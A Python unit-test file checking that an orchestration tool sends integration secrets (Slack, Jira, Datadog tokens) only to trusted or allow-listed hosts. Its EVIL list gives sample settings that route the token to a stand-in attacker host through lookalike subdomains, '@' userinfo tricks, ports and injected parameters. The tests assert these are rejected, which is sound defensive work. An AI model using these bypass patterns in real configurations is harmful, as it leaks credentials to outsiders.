"""A secret of an integration goes to nobody whom only the playbook's author chose."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from orchestration.playbook.load import load
from orchestration.runs.confidants import require_trusted
from orchestration.runs.heralds import Heralds
from orchestration.shelf.outside import Outside
from tests.unit.runs.runs_world import world
from tgk.errors import Rejected

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

    from orchestration.playbook.model import Integration, Playbook, Secret

TEXT = """
name: story
parameters: [{{name: where, default: 'https://evil.example'}}]
secrets: [{{name: token, source: environment, variable: HOOK_TOKEN}}]
steps: [/mark a]
integrations:
  - {settings}
"""
LISTED = ("https://chat.corp.example",)
TRUSTED = [
    '{type: slack, webhook: "${token}"}',
    '{type: slack, webhook: "${ secrets.token }", channel: "#x"}',
    '{type: slack, webhook: "https://hooks.slack.com/services/${token}"}',
    '{type: slack, webhook: "https://chat.corp.example/hooks/${token}"}',
    '{type: slack, webhook: "http://127.0.0.1:8065/hooks/${token}"}',
    '{type: slack, webhook: "https://evil.example/no-secret"}',
    '{type: jira, project: OPS, user: ops, url: "https://corp.atlassian.net", token: "${token}"}',
    '{type: jira, project: OPS, url: "${token}", user: ops, token: "${token}"}',
    '{type: jira, project: OPS, labels: "a,b"}',
    '{type: datadog, api_key: "${token}"}',
    '{type: datadog, api_key: "${token}", site: us3.datadoghq.com}',
]
EVIL = [
    '{type: slack, webhook: "https://evil.example/${token}"}',
    '{type: slack, webhook: "https://hooks.slack.com.evil.example/${token}"}',
    '{type: slack, webhook: "https://hooks.slack.com@evil.example/${token}"}',
    '{type: slack, webhook: "https://hooks.slack.com${token}"}',
    '{type: slack, webhook: "https://chat.corp.example:8443/${token}"}',
    '{type: slack, webhook: "http://127.0.0.1.evil.example/${token}"}',
    '{type: slack, webhook: "${where}/${token}"}',
    """{type: slack, webhook: "${where == '' ? where : token}"}""",
    '{type: jira, project: OPS, url: "https://evil.example", user: u, token: "${token}"}',
    '{type: jira, project: OPS, url: "https://evil.example/.atlassian.net", token: "${token}"}',
    '{type: datadog, api_key: "${token}", site: evil.example}',
    '{type: datadog, api_key: "${token}", site: "datadoghq.com.evil.example"}',
    '{type: datadog, api_key: "${token}", site: "${where}"}',
]


def book(settings: str) -> tuple[Playbook, Integration]:
    """Return a playbook with this integration, and the integration."""
    found = load(TEXT.format(settings=settings).encode(), "story.yaml")
    assert found.playbook is not None, found.diagnostics
    return found.playbook, found.playbook.integrations[0]


@pytest.mark.parametrize("settings", TRUSTED)
def test_the_service_itself_and_who_others_vouch_for_are_told(settings: str) -> None:
    """A listed host, this machine, and an address that is a secret as a whole; or no secret."""
    assert require_trusted(book(settings)[1], {"token"}, LISTED) is None


@pytest.mark.parametrize("settings", EVIL)
def test_a_host_that_only_the_playbook_names_is_told_no_secret(settings: str) -> None:
    """In whichever setting it stands, and however the host is dressed up."""
    with pytest.raises(Rejected, match="only the playbook names") as refused:
        require_trusted(book(settings)[1], {"token"}, LISTED)

    assert "evil" not in str(refused.value)


@pytest.mark.parametrize(
    "settings",
    [
        '{type: slack, webhook: "${token}", mention: "${token}"}',
        '{type: slack, webhook: "https://hooks.slack.com/services/x", channel: "${token}"}',
        '{type: jira, url: "https://x.atlassian.net", project: OPS, labels: "a, ${secrets.token}"}',
        '{type: jira, project: "${token}"}',
        '{type: datadog, api_key: "${token}", tags: "${token}"}',
    ],
)
def test_only_what_lets_us_in_is_secret(settings: str) -> None:
    """Whatever else is told is read by others, who may be anybody's customers."""
    with pytest.raises(Rejected, match="would be shown"):
        require_trusted(book(settings)[1], {"token"}, LISTED)


class Keeper:
    """Counts how often a secret is fetched, and who is told."""

    type = "slack"

    def __init__(self) -> None:
        self.fetched: list[str] = []
        self.told: list[Mapping[str, str]] = []

    async def reveal(self, secret: Secret) -> str:
        """Return the one value."""
        self.fetched.append(secret.name)
        return "hunter2hunter2"

    async def tell(self, _: Any, event: str, run: Any, settings: Mapping[str, str]) -> None:
        """Hear of a run."""
        self.told.append(settings)

    async def reach(self, settings: Mapping[str, str]) -> None:
        """Be there."""
        self.told.append(settings)


@pytest.mark.parametrize(("settings", "told"), [(EVIL[0], 0), (TRUSTED[3], 2)])
async def test_neither_a_run_nor_a_look_before_it_tells_them(
    tmp_path: Path, settings: str, told: int
) -> None:
    """The secret is not even fetched for a run, which ends as it does; the gate says why."""
    keeper = Keeper()
    made = world(tmp_path)
    made.heralds = Heralds([keeper], keeper, hosts=LISTED)  # type: ignore[list-item] # enough
    outside = Outside(keeper, [keeper], hosts=LISTED)  # type: ignore[list-item] # as above
    async with made.open():
        view = await made.play(TEXT.format(settings=settings))
        asked = len(keeper.fetched)
        gates = await outside.gates(book(settings)[0], {})

    [gate] = [each for each in gates if each.name == "integration slack"]
    assert view.state == "succeeded"
    assert (asked, len(keeper.told)) == (told, told + bool(told))
    assert gate.passed is bool(told)
    assert told or "only the playbook names" in gate.note
